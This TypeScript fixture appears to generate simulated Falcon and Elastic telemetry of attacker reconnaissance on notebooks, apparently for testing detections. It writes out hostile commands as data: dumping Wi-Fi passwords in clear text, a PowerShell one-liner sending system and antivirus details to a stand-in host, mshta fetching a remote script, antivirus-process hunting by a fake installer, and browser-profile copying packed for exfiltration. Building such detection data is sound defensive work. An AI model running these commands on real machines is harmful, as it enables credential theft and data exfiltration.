/** The same on notebooks, as Falcon and Elastic see it. */
import { collector, does, type Host, path, run } from "./host.ts";

const security =
  "WMIC /Node:localhost /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get * /Format:List";

export const notebookCollectors: readonly Host[] = [
  collector(
    "falcon",
    "TAL-NB-1106",
    "hsoto",
    "host-support",
    "somebody at the other end of AnyDesk: system, programs, wireless passwords, protection",
    run(
      "16:20:12",
      "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe",
      [
        'cmd | "C:\\Windows\\System32\\cmd.exe"',
        "systeminfo | systeminfo",
        "wmic | wmic product get name,version",
        "netsh | netsh wlan show profiles name=* key=clear",
        `wmic | ${security}`,
        "net | net user",
        "ipconfig | ipconfig /all",
      ],
      { gaps: [20, 31, 44, 18] },
    ),
  ),
  collector(
    "falcon",
    "TAL-NB-1109",
    "taraya",
    "host-script",
    "a short cut out of an archive starts PowerShell that asks for model, domain, system and protection and sends them",
    [
      ...run("09:02:10", "explorer", [
        `powershell | "powershell.exe" -ep bypass -w 1 "$c=gwmi Win32_ComputerSystem;$o=gwmi Win32_OperatingSystem;$a=(gwmi -N root/SecurityCenter2 AntiVirusProduct).displayName;$t=$c.Model+'|'+$c.Domain+'|'+$o.Version+'|'+$o.OSLanguage+'|'+$a;iwr ('https://tracking-dhl-at.example/?i='+[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($t)))"`,
      ]),
      does("09:02:13", "powershell", { asks: "tracking-dhl-at.example" }),
    ],
  ),
  collector(
    "falcon",
    "TAL-NB-1112",
    "pvidal",
    "host-script",
    "an application of HTML asks for the domain, the model, patches and what starts by itself",
    [
      ...run("12:30:30", "explorer", [
        'mshta | "C:\\Windows\\System32\\mshta.exe" https://verify-doc.example/c.hta',
      ]),
      ...run(
        "12:30:36",
        "mshta",
        [
          "wmic | wmic computersystem get domain,model,username",
          "wmic | wmic os get caption,buildnumber,oslanguage",
          "wmic | wmic qfe list brief",
          "wmic | wmic startup list brief",
          "wmic | wmic logicaldisk get name,volumename",
          "ipconfig | ipconfig /displaydns",
        ],
        { gaps: [2, 2, 5] },
      ),
    ],
  ),
  collector(
    "falcon",
    "TAL-NB-1115",
    "smazur",
    "host-installer",
    "a false installer's script looks through what runs for a dozen makers of protection before it goes on",
    [
      ...run("20:11:01", "explorer", [
        'C:\\Users\\smazur\\Downloads\\ZoomInstallerFull.exe | "C:\\Users\\smazur\\Downloads\\ZoomInstallerFull.exe"',
      ]),
      ...run("20:11:06", "C:\\Users\\smazur\\Downloads\\ZoomInstallerFull.exe", [
        'cmd | "C:\\Windows\\System32\\cmd.exe" /c copy Tm.pptx Tm.pptx.bat & Tm.pptx.bat',
      ]),
      ...run(
        "20:11:07",
        "cmd",
        [
          "tasklist | tasklist",
          'findstr | findstr /I "opssvc wrsa"',
          "tasklist | tasklist",
          'findstr | findstr "AvastUI AVGUI bdservicehost ekrn nsWscSvc SophosHealth"',
          "cmd | cmd /c md 418822",
          "C:\\Users\\smazur\\AppData\\Local\\Temp\\418822\\Fits.com | Fits.com y",
        ],
        { gaps: [1, 2] },
      ),
    ],
  ),
  collector(
    "elastic",
    "TAL-NB-1121",
    "rrojas",
    "host-burst",
    "Python out of the folder of a chat program asks for system, programs running, tasks and languages of the keyboard",
    run(
      "14:44:02",
      "C:\\Users\\rrojas\\AppData\\Roaming\\TeamsAddin\\pythonw.exe",
      [
        "systeminfo | systeminfo /fo csv /nh",
        "tasklist | tasklist /v /fo csv",
        "schtasks | schtasks /query /fo csv",
        'powershell | powershell -c "(Get-WinUserLanguageList).LanguageTag"',
        'powershell | powershell -c "Get-CimInstance Win32_VideoController | Select Name,DriverVersion"',
        "reg | reg query HKLM\\SOFTWARE\\Microsoft\\Cryptography /v MachineGuid",
        "cmd | cmd /c ver",
      ],
      { gaps: [3, 5, 2] },
    ),
  ),
  collector(
    "elastic",
    "TAL-NB-1124",
    "bpichler",
    "host-browser",
    "a program from the downloads lists profiles, settings and extensions of three browsers and packs them",
    [
      ...run("21:15:30", "explorer", [
        "C:\\Users\\bpichler\\Downloads\\MacroLabel_crack\\setup.exe | setup.exe",
      ]),
      ...run("21:15:38", "C:\\Users\\bpichler\\Downloads\\MacroLabel_crack\\setup.exe", [
        'cmd | cmd /c dir /b "C:\\Users\\bpichler\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Extensions"',
        'cmd | cmd /c copy "C:\\Users\\bpichler\\AppData\\Local\\Google\\Chrome\\User Data\\Local State" C:\\Users\\Public\\t\\',
        'cmd | cmd /c copy "C:\\Users\\bpichler\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Preferences" C:\\Users\\Public\\t\\',
        'cmd | cmd /c type "C:\\Users\\bpichler\\AppData\\Roaming\\Mozilla\\Firefox\\profiles.ini"',
        "wmic | wmic path win32_videocontroller get name",
        "wmic | wmic csproduct get uuid",
        "powershell | powershell -c Compress-Archive C:\\Users\\Public\\t C:\\Users\\Public\\t.zip",
      ]),
      does("21:16:10", path("C:\\Users\\bpichler\\Downloads\\MacroLabel_crack\\setup.exe"), {
        asks: "panel-eu3.example",
      }),
    ],
  ),
];
